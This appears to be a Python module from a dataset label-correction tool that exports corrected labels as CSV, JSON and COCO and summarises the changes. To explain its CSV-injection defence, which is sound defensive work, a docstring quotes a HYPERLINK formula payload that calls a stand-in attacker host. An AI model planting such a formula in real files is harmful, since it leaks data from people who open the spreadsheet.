"""Corrected labels out: CSV, JSON and COCO bytes, and summaries of what changed.

Everything starts from the *export table* made by :func:`export_table` from the project's samples
and the review state (``ReviewStore.current_state(samples)``)::

    sample_id  path  original_label  corrected_label  changed  status      reviewer  decided_at
    cat/1.png  ...   cat             dog              True     relabeled   alice     2026-11-27 ...

``status`` is ``unreviewed``, ``relabeled``, ``flagged`` (wrong, no new label given), ``ok`` or
``duplicate`` (a copy of a kept sample: ``drop_duplicates=True`` leaves such rows out of the table
and the files).

Example (for a project: ``export_table(project.samples, project.reviews.current_state(project.samples))``,
which is what ``project.corrected_labels()`` returns):
    >>> samples = pd.DataFrame({"sample_id": ["cat/1.png", "cat/2.png"], "path": ["cat/1.png", "cat/2.png"],
    ...                         "label": ["cat", "cat"]})
    >>> state = pd.DataFrame({"sample_id": ["cat/1.png", "cat/2.png"], "label": ["dog", "cat"],
    ...                       "status": ["relabeled", "unreviewed"]})
    >>> table = export_table(samples, state)
    >>> table[["sample_id", "corrected_label", "changed", "status"]]
       sample_id corrected_label  changed      status
    0  cat/1.png             dog     True   relabeled
    1  cat/2.png             cat    False  unreviewed
    >>> for line in to_csv(table).decode().splitlines(): print(line)
    sample_id,path,original_label,corrected_label,changed,status,reviewer,decided_at
    cat/1.png,cat/1.png,cat,dog,True,relabeled,,
    cat/2.png,cat/2.png,cat,cat,False,unreviewed,,
"""

from __future__ import annotations

import copy
import json
import os
import re
from collections.abc import Collection
from pathlib import Path

import pandas as pd

EXPORT_COLUMNS = ["sample_id", "path", "original_label", "corrected_label", "changed", "status",
                  "reviewer", "decided_at"]


def export_table(samples: pd.DataFrame, state: pd.DataFrame | None = None,
                 drop_duplicates: bool = False) -> pd.DataFrame:
    """One row per sample (in the order of ``samples``) with its original and corrected label.

    Args:
        samples: DataFrame[sample_id, label, path?, split?] (the project's sample table); a ``split``
            column with any split is carried to the table's last column.
        state: DataFrame[sample_id, label, status?, reviewer?, decided_at?] as from
            ``ReviewStore.current_state``; None: nothing reviewed yet.
        drop_duplicates: leave out the samples whose status is ``duplicate`` (see :func:`without_duplicates`).
    """
    for column in ("sample_id", "label"):
        if column not in samples.columns:
            raise ValueError(f"samples needs a {column!r} column; it has {list(samples.columns)}")
    out = pd.DataFrame({"sample_id": samples["sample_id"].astype(str).to_numpy()})
    out["path"] = samples["path"].astype(object).to_numpy() if "path" in samples.columns else out["sample_id"]
    out["original_label"] = _objects(samples["label"])
    if "split" in samples.columns and samples["split"].notna().any():  # carried only when there are splits
        out["split"] = _objects(samples["split"])
    if state is None or len(state) == 0:
        out["corrected_label"] = out["original_label"]
        out["status"], out["reviewer"], out["decided_at"] = "unreviewed", None, pd.NaT
    else:
        if state["sample_id"].duplicated().any():
            raise ValueError("state has duplicate sample_ids; pass one row per sample")
        current = state.set_index(state["sample_id"].astype(str))
        aligned = current.reindex(out["sample_id"])
        corrected = _objects(aligned["label"])
        missing = pd.isna(aligned["label"]).to_numpy() & ~aligned.index.isin(current.index)
        corrected[missing] = out["original_label"].to_numpy()[missing]  # not in the state: unchanged
        out["corrected_label"] = corrected
        out["status"] = aligned["status"].fillna("unreviewed").to_numpy() if "status" in aligned else "unreviewed"
        out["reviewer"] = _objects(aligned["reviewer"]) if "reviewer" in aligned else None
        out["decided_at"] = pd.to_datetime(aligned["decided_at"], utc=True).to_numpy() \
            if "decided_at" in aligned else pd.NaT
    out["changed"] = [not _same(a, b) for a, b in zip(out["original_label"], out["corrected_label"])]
    out = out[EXPORT_COLUMNS + (["split"] if "split" in out else [])]
    return without_duplicates(out) if drop_duplicates else out


def without_duplicates(table: pd.DataFrame) -> pd.DataFrame:
    """The export table without the rows a reviewer marked ``duplicate`` (the copies; the kept one stays).

    >>> table = pd.DataFrame({"sample_id": ["a", "b"], "status": ["ok", "duplicate"]})
    >>> without_duplicates(table)["sample_id"].tolist()
    ['a']
    """
    return table[(table["status"] != "duplicate").to_numpy()].reset_index(drop=True)


def _objects(series: pd.Series):
    """Values as Python objects with None for missing (pandas NA does not survive JSON)."""
    values = series.astype(object).to_numpy().copy()
    values[pd.isna(values)] = None
    return values


def _same(a, b) -> bool:
    """Equal labels, with every kind of missing (None, NaN, NA) equal to each other."""
    missing_a, missing_b = a is None or bool(pd.isna(a)), b is None or bool(pd.isna(b))
    return (missing_a and missing_b) or (not missing_a and not missing_b and a == b)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_safe(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` that a spreadsheet opens as text, never as formulas (CSV injection).

    Every CSV mlfix writes goes through this function (by :func:`safe_csv`), on every text column and
    the column names: the export (:func:`to_csv`: the Export page, the conflicts downloads,
    ``mlfix export``) and ``mlfix scores -o``. Following OWASP's CSV injection guidance, a text cell
    that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in
    front, so that a reviewer named ``=HYPERLINK("http://evil.example/?"&A2,"Open")`` is shown, not
    run, when an admin opens the file. Numbers stay as they are: numeric columns are not touched, and
    neither is text that is a plain number (a label ``-1`` is not a formula). JSON, COCO and parquet
    outputs stay raw: they are data for programs, not sheets. Reading such a CSV back with pandas
    gives the quoted text; use the JSON export for an exact round trip.

    >>> safe = csv_safe(pd.DataFrame({"who": ["=1+2", "-1", "@x", "alice"], "n": [-1, 2, 3, 4]}))
    >>> safe["who"].tolist(), safe["n"].tolist()
    (["'=1+2", '-1', "'@x", 'alice'], [-1, 2, 3, 4])
    """
    columns = [table.iloc[:, i] if _kept(dtype) else
               pd.Series([_cell(v) for v in table.iloc[:, i]], index=table.index, dtype=object)
               for i, dtype in enumerate(table.dtypes)]
    out = pd.concat(columns, axis=1) if columns else table.copy()
    out.columns = [_cell(c) for c in table.columns]
    return out


def _kept(dtype) -> bool:
    """Numbers, booleans and timestamps: written as such, never read as formulas."""
    return pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_datetime64_any_dtype(dtype)


def _cell(value):
    """One cell: text that a spreadsheet would run as a formula gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_csv(table: pd.DataFrame) -> bytes:
    """``table`` (without its index) as UTF-8 CSV bytes that a spreadsheet opens as text: :func:`csv_safe`.

    Lines end in CRLF (RFC 4180), so that a value holding a carriage return or a line feed is quoted
    and stays one cell; with bare LF endings, pandas leaves a lone CR unquoted and a spreadsheet
    starts a new row there (``"x\\r=HYPERLINK(...)"`` would be a formula in the next row).
    """
    return csv_safe(table).to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def to_csv(table: pd.DataFrame) -> bytes:
    """The export table as UTF-8 CSV bytes (``decided_at`` in ISO 8601, UTC; text made safe by :func:`safe_csv`)."""
    frame = table.copy()
    if "decided_at" in frame:
        frame["decided_at"] = _iso(frame["decided_at"])
    return safe_csv(frame)


def to_json(table: pd.DataFrame, project: dict | None = None) -> bytes:
    """``{"project": {...}, "samples": [{sample_id, path, original_label, corrected_label, ...}]}``."""
    frame = table.copy()
    if "decided_at" in frame:
        frame["decided_at"] = _iso(frame["decided_at"])
    records = frame.astype(object).where(frame.notna(), None).to_dict(orient="records")
    for record in records:
        record["changed"] = bool(record["changed"])
    return json.dumps({"project": project or {}, "samples": records}, indent=1,
                      ensure_ascii=False).encode("utf-8")


def _iso(column: pd.Series) -> list:
    stamps = pd.to_datetime(column, utc=True)
    return [None if pd.isna(t) else t.isoformat() for t in stamps]


def coco_annotation_id(sample_id: str) -> str | None:
    """The annotation id part of a COCO crop's sample_id (``"img/1.jpg#42"`` -> ``"42"``)."""
    text = str(sample_id)
    return text.rsplit("#", 1)[1] if "#" in text else None


def to_coco(coco: dict | str | os.PathLike, table: pd.DataFrame, dropped: Collection[str] = ()) -> bytes:
    """The COCO file with each annotation's ``category_id`` set from its corrected label.

    A label that is not among the categories gets a new category (next free id). Annotations that
    are not in the table (skipped at scan time) are left as they were. Nothing else is changed.

    Args:
        coco: the source COCO dict, or the path of its JSON file.
        table: the export table (:func:`export_table`) of a project made from that COCO file.
        dropped: sample ids whose annotations are left out of the file (duplicates dropped).
    """
    source = json.loads(Path(coco).read_text()) if isinstance(coco, (str, os.PathLike)) else coco
    if not isinstance(source, dict) or not {"images", "annotations", "categories"} <= set(source):
        raise ValueError("not a COCO dict: it needs 'images', 'annotations' and 'categories'")
    out = copy.deepcopy(source)
    by_name = {str(cat["name"]): cat["id"] for cat in out["categories"]}
    next_id = max([int(cat["id"]) for cat in out["categories"] if str(cat["id"]).lstrip("-").isdigit()],
                  default=0) + 1
    corrected = {}
    for sample_id, label in zip(table["sample_id"], table["corrected_label"]):
        ann_id = coco_annotation_id(sample_id)
        if ann_id is not None and label is not None and not pd.isna(label):
            corrected[ann_id] = str(label)
    for label in sorted(set(corrected.values()) - set(by_name)):
        out["categories"].append({"id": next_id, "name": label, "supercategory": ""})
        by_name[label] = next_id
        next_id += 1
    gone = {coco_annotation_id(s) for s in dropped} - {None}
    if gone:
        out["annotations"] = [a for a in out["annotations"] if str(a.get("id")) not in gone]
    for annotation in out["annotations"]:
        label = corrected.get(str(annotation.get("id")))
        if label is not None:
            annotation["category_id"] = by_name[label]
    return json.dumps(out).encode("utf-8")


FORMATS = ("csv", "json", "coco")


def to_coco_images(table: pd.DataFrame, classes: list[str] | tuple = (), samples: pd.DataFrame | None = None) -> bytes:
    """A new COCO file of image-level labels, for a project of whole images (a folder, a labels CSV).

    ``images`` (file_name = the path; width and height from ``samples`` when given), ``categories``
    (``classes`` in order, then any other corrected label; ids from 1) and one annotation per image
    with a corrected label: ``{id, image_id, category_id}``, no ``bbox``. Nobody drew boxes, so none
    are invented: tools that need detections should take the CSV or JSON export.
    """
    names = list(dict.fromkeys([*map(str, classes), *(str(v) for v in table["corrected_label"] if not _missing(v))]))
    category = {name: i + 1 for i, name in enumerate(names)}
    sizes = samples.set_index("sample_id")[["width", "height"]] if samples is not None and \
        {"width", "height"} <= set(samples.columns) else None
    images, annotations = [], []
    for i, (sample_id, path, label) in enumerate(zip(table["sample_id"], table["path"], table["corrected_label"]), 1):
        image = {"id": i, "file_name": str(path)}
        if sizes is not None and sample_id in sizes.index and not sizes.loc[sample_id].isna().any():
            image.update(width=int(sizes.at[sample_id, "width"]), height=int(sizes.at[sample_id, "height"]))
        images.append(image)
        if not _missing(label):
            annotations.append({"id": len(annotations) + 1, "image_id": i, "category_id": category[str(label)]})
    return json.dumps({"info": {"description": "mlfix image-level labels (no boxes)"}, "images": images,
                       "annotations": annotations,
                       "categories": [{"id": i, "name": n, "supercategory": ""} for n, i in category.items()]},
                      ensure_ascii=False).encode("utf-8")


def _missing(value) -> bool:
    return value is None or (not isinstance(value, str) and bool(pd.isna(value)))


def coco_unavailable(source: dict | None) -> str | None:
    """Why a project with data source ``source`` (``Project.source``) has no COCO export; None when it has.

    A project made from a COCO file gets that file with each box's corrected label
    (:func:`to_coco`); a project of whole images (a folder, a labels CSV) a new COCO file of
    image-level labels (:func:`to_coco_images`). Only a COCO source file that is gone stops it.

    >>> coco_unavailable({"images": "photos", "coco": None}) is None
    True
    """
    coco = (source or {}).get("coco")
    if not coco:
        return None
    if not Path(coco).is_file():
        return f"the source COCO file {coco} is gone: put it back there to export COCO, or export csv or json"
    return None


def export_bytes(table: pd.DataFrame, fmt: str, source: dict | None = None, project: dict | None = None,
                 samples: pd.DataFrame | None = None, drop_duplicates: bool = False) -> bytes:
    """The export file in ``fmt`` (one of :data:`FORMATS`) from the export table.

    Args:
        table: the export table (:func:`export_table`).
        fmt: ``csv``, ``json`` or ``coco``.
        source: the project's data source (``Project.source``); a COCO source file gets the corrected
            labels, else COCO is a new file of image-level labels.
        project: what the JSON export says about the project (its ``"project"`` object); its
            ``classes`` (the class list) are the categories of an image-level COCO file.
        samples: the sample table (image sizes of an image-level COCO file).
        drop_duplicates: leave out the samples marked ``duplicate`` (a COCO source file loses their
            annotations).

    Raises:
        ExportError: an unknown format, or COCO where :func:`coco_unavailable` gives a reason.
    """
    from mlfix.errors import ExportError

    dropped: list[str] = []
    if drop_duplicates:
        dropped = table.loc[(table["status"] == "duplicate").to_numpy(), "sample_id"].tolist()
        table = without_duplicates(table)
    if fmt == "csv":
        return to_csv(table)
    if fmt == "json":
        return to_json(table, project=project)
    if fmt == "coco":
        reason = coco_unavailable(source)
        if reason:
            raise ExportError(reason)
        if not (source or {}).get("coco"):
            return to_coco_images(table, (project or {}).get("classes") or (), samples)
        return to_coco(source["coco"], table, dropped)
    raise ExportError(f"unknown export format {fmt!r}; use {', '.join(FORMATS)}")


def changes(table: pd.DataFrame) -> pd.DataFrame:
    """``original_label, corrected_label, count`` for the samples whose label changed, most first."""
    changed = table[table["changed"]]
    if changed.empty:
        return pd.DataFrame({"original_label": [], "corrected_label": [], "count": []}).astype(
            {"count": "int64"})
    frame = changed[["original_label", "corrected_label"]].fillna("(no label)")
    counts = frame.value_counts().rename("count").reset_index()
    return counts.sort_values(["count", "original_label", "corrected_label"],
                              ascending=[False, True, True], ignore_index=True)


def per_class(table: pd.DataFrame) -> pd.DataFrame:
    """Per class: ``before`` and ``after`` counts, ``moved_out``, ``moved_in``, ``flagged``, ``ok``."""
    original = table["original_label"].fillna("(no label)")
    corrected = table["corrected_label"].fillna("(no label)")
    classes = sorted(set(original) | set(corrected))
    changed = table["changed"].to_numpy(dtype=bool)
    frame = pd.DataFrame(index=pd.Index(classes, name="label"))
    frame["before"] = original.value_counts().reindex(classes, fill_value=0)
    frame["after"] = corrected.value_counts().reindex(classes, fill_value=0)
    frame["moved_out"] = original[changed].value_counts().reindex(classes, fill_value=0)
    frame["moved_in"] = corrected[changed].value_counts().reindex(classes, fill_value=0)
    frame["flagged"] = original[(table["status"] == "flagged").to_numpy()].value_counts().reindex(
        classes, fill_value=0)
    frame["ok"] = corrected[(table["status"] == "ok").to_numpy()].value_counts().reindex(classes, fill_value=0)
    return frame.astype("int64").reset_index()
